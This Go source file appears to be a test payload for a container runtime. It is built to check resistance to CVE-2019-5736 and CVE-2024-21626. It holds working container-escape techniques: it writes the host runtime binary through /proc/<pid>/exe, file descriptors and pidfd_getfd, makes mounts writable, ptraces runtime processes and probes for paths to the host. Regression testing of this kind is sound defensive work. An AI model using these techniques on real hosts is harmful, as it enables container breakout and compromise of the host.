// Command exeattack is the CVE-2019-5736 payload that the runtime binary
// tests run inside a container, built static. Over and over until the stop
// file appears, it looks for processes that run the runtime binary (their
// /proc/<pid>/exe has the binary's size, -size) and tries every way it
// knows to write that binary:
//
//   - open /proc/<pid>/exe for writing, directly and by reopening an O_PATH
//     handle through /proc/self/fd/N, also after the process exited (the
//     way the original exploit waited for ETXTBSY to go away);
//   - the same through /proc/<pid>/map_files/* and through every regular
//     file among /proc/<pid>/fd/*, and every fd taken with pidfd_getfd;
//   - on each of those handles, make its mount writable: mount_setattr
//     clearing MOUNT_ATTR_RDONLY, a MS_REMOUNT|MS_BIND remount, fspick and
//     a read-write reconfigure of the superblock, and open_tree clones made
//     writable, retrying the writes after each;
//   - PTRACE_SEIZE of the process; stopped, its effective capabilities
//     are compared with ours: PRIVILEGED means it had more.
//
// Every directory fd it takes from such a process is walked up to its
// topmost ancestor: one that is not the container's root leads out of it.
//
// With -marker, a file that exists only on the host, every process that
// appears after the payload started is probed too, runtime binary or
// not, for as long as it lives: its /proc/<pid>/root and /proc/<pid>/cwd
// (walked up to their topmost ancestor) and its mount namespace (joined
// on a thread of its own) must not lead to the marker; HOST-REACHED says
// one did. Those processes are ptraced as well.
//
// Each distinct outcome is appended once to the log. A write that gets
// through is logged with WROTE, a handle opened for writing with
// OPENED-FOR-WRITE; "target pid=N" says the process was reached at all.
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

type attack struct {
	log    *os.File
	seen   map[string]bool
	size   int64
	held   map[int]int // pid → O_PATH fd of its /proc/<pid>/exe
	traced map[int]bool
}

func main() {
	logPath := flag.String("log", "", "append outcomes here")
	stopPath := flag.String("stop", "", "stop once this file exists")
	size := flag.Int64("size", 0, "size of the runtime binary: processes whose exe has it are attacked")
	marker := flag.String("marker", "", "absolute path of a file that exists only on the host")
	flag.Parse()
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	log, err := os.OpenFile(*logPath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		os.Exit(2)
	}
	a := &attack{log: log, seen: map[string]bool{}, size: *size, held: map[int]int{}, traced: map[int]bool{}}
	a.record("started")
	self := os.Getpid()
	present := map[int]bool{}
	if entries, err := os.ReadDir("/proc"); err == nil {
		for _, e := range entries {
			if pid, err := strconv.Atoi(e.Name()); err == nil {
				present[pid] = true
			}
		}
	}
	for {
		_, err := os.Stat(*stopPath)
		stopping := err == nil
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			if *marker != "" && !present[pid] {
				a.probeHost(pid, *marker)
			}
			if a.isTarget(pid) {
				a.attackProcess(pid)
			}
		}
		for pid, fd := range a.held {
			kind := "reopen-running"
			if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
				kind = "reopen-exited"
			}
			a.tryWrite(kind, pid, fmt.Sprintf("/proc/self/fd/%d", fd))
		}
		if stopping {
			a.record("stopped")
			return
		}
		time.Sleep(100 * time.Microsecond)
	}
}

// isTarget tells whether pid runs the runtime binary now. A process of
// this container whose exe we may not even look at counts too: only the
// runtime's non-dumpable processes hide that way, and they are attacked
// all the same.
func (a *attack) isTarget(pid int) bool {
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	var st unix.Stat_t
	switch err := unix.Stat(exe, &st); {
	case err == nil && st.Size == a.size:
		target, _ := os.Readlink(exe)
		a.record("target pid=%d exe=%s", pid, target)
		return true
	case errors.Is(err, unix.EACCES) || errors.Is(err, unix.EPERM):
		a.record("target pid=%d exe-err=%s", pid, errName(err))
		return true
	}
	return false
}

func (a *attack) attackProcess(pid int) {
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	if _, ok := a.held[pid]; !ok {
		fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
		switch {
		case err != nil:
			a.record("opath pid=%d err=%s", pid, errName(err))
		case !a.isBinary(fd):
			unix.Close(fd) // it has moved on to the container's program
			return
		default:
			a.held[pid] = fd
			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			a.record("opath pid=%d ok target=%s", pid, target)
			a.attackMount("exe", pid, fd)
		}
	}
	a.tryWrite("direct", pid, exe)
	a.attackDir("map_files", pid)
	a.attackDir("fd", pid)
	a.tryPtrace(pid)
}

// attackDir goes through /proc/<pid>/<dir>/*: every entry is logged with
// what it points to; the runtime binary among them is attacked.
func (a *attack) attackDir(dir string, pid int) {
	base := fmt.Sprintf("/proc/%d/%s", pid, dir)
	entries, err := os.ReadDir(base)
	if err != nil {
		a.record("%s pid=%d list-err=%s", dir, pid, errName(err))
		return
	}
	for _, e := range entries {
		path := filepath.Join(base, e.Name())
		target, _ := os.Readlink(path)
		a.record("%s pid=%d entry=%s target=%s", dir, pid, e.Name(), target)
		fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			a.record("%s pid=%d opath-err=%s", dir, pid, errName(err))
			continue
		}
		if a.isBinary(fd) {
			a.tryWrite(dir, pid, path)
			a.attackMount(dir, pid, fd)
		}
		unix.Close(fd)
		if dir == "fd" {
			n, _ := strconv.Atoi(e.Name())
			a.stealFD(pid, n)
		}
	}
}

// checkOutside walks up from a directory fd taken from the process: a
// directory whose topmost ancestor is not our root (nor a procfs of our
// own) leads out of the container, the CVE-2024-21626 way out, unless it
// is that of the process's own root: a process of another container
// joining our pid namespace lives in a tree of its own, and whether its
// root reaches the host is what probeHost finds out. ownBefore is that
// root as it was before the fd was taken (ok false: unknown): a process
// that exits right after shows no root any more.
func (a *attack) checkOutside(pid, n, fd int, ownBefore unix.Stat_t, ok bool) {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFDIR {
		return
	}
	var fs unix.Statfs_t
	if unix.Fstatfs(fd, &fs) == nil && fs.Type == unix.PROC_SUPER_MAGIC {
		a.record("fd pid=%d fd=%d is a procfs directory", pid, n)
		return
	}
	dir, err := unix.Openat(fd, ".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	dir = topmost(dir)
	defer unix.Close(dir)
	var top, root unix.Stat_t
	_ = unix.Fstat(dir, &top)
	_ = unix.Stat("/", &root)
	same := func(x, y unix.Stat_t) bool { return x.Dev == y.Dev && x.Ino == y.Ino }
	ownAfter, okAfter := rootTop(pid)
	if !same(top, root) && (ok && same(top, ownBefore) || okAfter && same(top, ownAfter)) {
		a.record("fd pid=%d fd=%d is a directory of the process's own tree", pid, n)
		return
	}
	if !same(top, root) {
		a.record("fd pid=%d fd=%d LEADS-OUTSIDE the container's root", pid, n)
	} else {
		a.record("fd pid=%d fd=%d is a directory of the container", pid, n)
	}
}

// rootTop is the topmost ancestor of the process's root directory, as its
// /proc entry shows it; false if that cannot be read.
func rootTop(pid int) (unix.Stat_t, bool) {
	var st unix.Stat_t
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/root", pid), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return st, false
	}
	top := topmost(fd)
	defer unix.Close(top)
	ok := unix.Fstat(top, &st) == nil
	return st, ok
}

// isBinary tells whether fd is a regular file of the runtime binary's size.
func (a *attack) isBinary(fd int) bool {
	var st unix.Stat_t
	return unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG && st.Size == a.size
}

// stealFD takes the process's fd n itself with pidfd_getfd, open file
// description, access mode and all, and writes through it if it is the
// runtime binary.
func (a *attack) stealFD(pid, n int) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return
	}
	defer unix.Close(pidfd)
	ownRoot, known := rootTop(pid)
	fd, err := unix.PidfdGetfd(pidfd, n, 0)
	if err != nil {
		a.record("pidfd_getfd pid=%d err=%s", pid, errName(err))
		return
	}
	defer unix.Close(fd)
	a.record("pidfd_getfd pid=%d fd=%d ok", pid, n)
	a.checkOutside(pid, n, fd, ownRoot, known)
	if !a.isBinary(fd) {
		return
	}
	if _, err := unix.Write(fd, []byte("\nexeattack was here\n")); err == nil {
		a.record("pidfd_getfd pid=%d fd=%d OPENED-FOR-WRITE WROTE", pid, n)
	} else {
		a.record("pidfd_getfd pid=%d fd=%d write-err=%s", pid, n, errName(err))
	}
}

// attackMount tries to make the mount under the O_PATH handle fd
// writable in every way, and to write the file after each.
func (a *attack) attackMount(kind string, pid, fd int) {
	reopen := fmt.Sprintf("/proc/self/fd/%d", fd)
	for _, recursive := range []uint{0, unix.AT_RECURSIVE} {
		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		err := unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH|recursive, &attr)
		a.record("%s-mount_setattr pid=%d recursive=%t err=%s", kind, pid, recursive != 0, errName(err))
		a.tryWrite(kind+"-after-mount_setattr", pid, reopen)
	}
	err := unix.Mount("", reopen, "", unix.MS_REMOUNT|unix.MS_BIND, "")
	a.record("%s-remount pid=%d err=%s", kind, pid, errName(err))
	a.tryWrite(kind+"-after-remount", pid, reopen)
	a.reconfigureRW(kind, pid, fd)
	a.tryWrite(kind+"-after-fspick", pid, reopen)
	a.writableClone(kind, pid, fd)
}

// reconfigureRW asks the superblock under fd to become read-write.
func (a *attack) reconfigureRW(kind string, pid, fd int) {
	fs, err := unix.Fspick(fd, "", unix.FSPICK_EMPTY_PATH|unix.FSPICK_CLOEXEC)
	if err != nil {
		a.record("%s-fspick pid=%d err=%s", kind, pid, errName(err))
		return
	}
	defer unix.Close(fs)
	err = unix.FsconfigSetFlag(fs, "rw")
	if err == nil {
		err = unix.FsconfigReconfigure(fs)
	}
	a.record("%s-fspick-reconfigure-rw pid=%d err=%s", kind, pid, errName(err))
}

// writableClone clones the mount under fd, clears read-only on the clone
// and opens the file through it.
func (a *attack) writableClone(kind string, pid, fd int) {
	clone, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	if err != nil {
		a.record("%s-open_tree pid=%d err=%s", kind, pid, errName(err))
		return
	}
	defer unix.Close(clone)
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	err = unix.MountSetattr(clone, "", unix.AT_EMPTY_PATH|unix.AT_RECURSIVE, &attr)
	a.record("%s-clone-mount_setattr pid=%d err=%s", kind, pid, errName(err))
	a.tryWrite(kind+"-clone", pid, fmt.Sprintf("/proc/self/fd/%d", clone))
}

// tryPtrace attaches to the process once and detaches again. It seizes
// and interrupts rather than attaching with a SIGSTOP, which could be left
// pending and stop the process for good after the detach.
func (a *attack) tryPtrace(pid int) {
	if a.traced[pid] {
		return
	}
	a.traced[pid] = true
	if err := unix.PtraceSeize(pid); err != nil {
		if !errors.Is(err, unix.ESRCH) {
			a.record("ptrace pid=%d err=%s", pid, errName(err))
		}
		return
	}
	a.record("ptrace pid=%d ATTACHED", pid)
	if unix.PtraceInterrupt(pid) != nil {
		return
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
		return
	}
	a.judgeStopped(pid)
	// A signal that arrived first is handed back on the way out.
	sig := 0
	if ws.StopSignal() != unix.SIGTRAP {
		sig = int(ws.StopSignal())
	}
	_, _, _ = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, uintptr(sig), 0, 0)
}

// judgeStopped logs whether the stopped tracee held capabilities that we
// lack: a runtime process caught before it became the container's process.
// Stopped, it cannot drop them between the look and the verdict.
func (a *attack) judgeStopped(pid int) {
	theirs, err1 := capEff(fmt.Sprintf("/proc/%d/status", pid))
	ours, err2 := capEff("/proc/self/status")
	switch {
	case err1 != nil || err2 != nil:
		a.record("ptrace pid=%d stopped capeff-err=%v/%v", pid, err1, err2)
	case theirs&^ours != 0:
		a.record("ptrace pid=%d stopped PRIVILEGED capeff=%x ours=%x", pid, theirs, ours)
	default:
		a.record("ptrace pid=%d stopped unprivileged capeff=%x", pid, theirs)
	}
}

func capEff(statusPath string) (uint64, error) {
	data, err := os.ReadFile(statusPath)
	if err != nil {
		return 0, err
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			return strconv.ParseUint(strings.TrimSpace(v), 16, 64)
		}
	}
	return 0, errors.New("no CapEff")
}

// tryWrite opens path for writing, read-write and write-only, and writes
// to it if that works.
func (a *attack) tryWrite(kind string, pid int, path string) {
	for _, mode := range []int{unix.O_RDWR, unix.O_WRONLY} {
		fd, err := unix.Open(path, mode|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err != nil {
			if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
				a.record("%s pid=%d err=%s", kind, pid, errName(err))
			}
			continue
		}
		_, werr := unix.Write(fd, []byte("\nexeattack was here\n"))
		unix.Close(fd)
		if werr == nil {
			a.record("%s pid=%d OPENED-FOR-WRITE WROTE", kind, pid)
		} else {
			a.record("%s pid=%d OPENED-FOR-WRITE write-err=%s", kind, pid, errName(werr))
		}
	}
}

func (a *attack) record(format string, args ...any) {
	line := fmt.Sprintf(format, args...)
	if a.seen[line] {
		return
	}
	a.seen[line] = true
	fmt.Fprintln(a.log, line)
}

func errName(err error) string {
	if err == nil {
		return "none"
	}
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

// probeHost tries the ways from pid's /proc entries to the host's tree:
// its root, its cwd and its mount namespace.
func (a *attack) probeHost(pid int, marker string) {
	for _, link := range []string{"root", "cwd"} {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, link), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
				a.record("host pid=%d via=%s err=%s", pid, link, errName(err))
			}
			continue
		}
		top := topmost(fd)
		var st unix.Stat_t
		if unix.Fstatat(top, strings.TrimPrefix(marker, "/"), &st, 0) == nil {
			a.record("host pid=%d via=%s HOST-REACHED", pid, link)
		} else {
			a.record("host pid=%d via=%s contained", pid, link)
		}
		unix.Close(top)
	}
	a.probeMountNamespace(pid, marker)
	a.tryPtrace(pid)
}

// topmost walks up from the directory fd, which it takes over, to its
// topmost ancestor.
func topmost(dir int) int {
	for {
		parent, err := unix.Openat(dir, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return dir
		}
		var here, up unix.Stat_t
		_ = unix.Fstat(dir, &here)
		_ = unix.Fstat(parent, &up)
		unix.Close(dir)
		dir = parent
		if here.Dev == up.Dev && here.Ino == up.Ino {
			return dir
		}
	}
}

// probeMountNamespace joins pid's mount namespace on a thread that is
// thrown away afterwards (it never unlocks) and looks for the marker.
func (a *attack) probeMountNamespace(pid int, marker string) {
	done := make(chan string)
	go func() {
		runtime.LockOSThread()
		if err := unix.Unshare(unix.CLONE_FS); err != nil {
			done <- "unshare-err=" + errName(err)
			return
		}
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/mnt", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			done <- "err=" + errName(err)
			return
		}
		defer unix.Close(fd)
		if err := unix.Setns(fd, unix.CLONE_NEWNS); err != nil {
			done <- "setns-err=" + errName(err)
			return
		}
		var st unix.Stat_t
		if unix.Stat(marker, &st) == nil {
			done <- "HOST-REACHED"
		} else {
			done <- "contained"
		}
	}()
	if outcome := <-done; !strings.HasSuffix(outcome, "ENOENT") && !strings.HasSuffix(outcome, "ESRCH") {
		a.record("host pid=%d via=mnt-ns %s", pid, outcome)
	}
}
